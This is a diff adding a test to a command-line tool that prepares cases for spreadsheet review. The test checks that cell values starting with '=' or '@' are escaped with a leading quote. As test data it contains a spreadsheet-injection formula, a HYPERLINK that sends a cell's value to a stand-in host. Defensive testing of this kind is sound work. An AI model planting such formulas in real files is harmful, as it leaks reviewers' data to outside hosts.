@@ -244,3 +244,35 @@ def test_verdicts_that_cannot_be_read(tmp_path, cases):
         result = run("read", *given)
         assert result.exit_code == 2
         assert said in " ".join(result.output.replace("│", " ").split())
+
+
+def test_nothing_in_the_file_for_reviewers_is_a_formula(window, tmp_path):
+    """Ids and columns come from whoever pays, and reviewers open them in a spreadsheet."""
+    _, labels, scores = window
+    link = '=HYPERLINK("http://x.example/?"&A1)'
+    rows = tmp_path / "rows.csv"
+    with rows.open("w") as file:
+        table = csv.writer(file, delimiter=";")
+        table.writerow(["order", "s", "y", "shop", "amount"])
+        for row in range(ROWS):
+            table.writerow([f"@{row}", scores[row], labels[row], link, -row - 0.5])
+    path = tmp_path / "cases.csv"
+    result = run(
+        *("draw", rows, *DATA, "--threshold", 1.5, "--id", "order", "--column", "shop"),
+        *("--column", "amount", "--cases", 60, "--class-prior", 0.1, "--out", path),
+    )
+    assert result.exit_code == 0, result.output
+    with path.open() as read:
+        drawn = list(csv.DictReader(read))
+    for case in drawn:
+        assert case["shop"] == f"'{link}"
+        assert case["id"].startswith("'@")
+        # A number is none.
+        assert float(case["amount"]) < 0
+        case["verdict"] = "0"
+    with path.open("w") as write:
+        filled = csv.DictWriter(write, drawn[0])
+        filled.writeheader()
+        filled.writerows(drawn)
+    read = json.loads(run("read", path, "--json").stdout)
+    assert (read["negative"], read["refused"]) == (len(drawn), {})
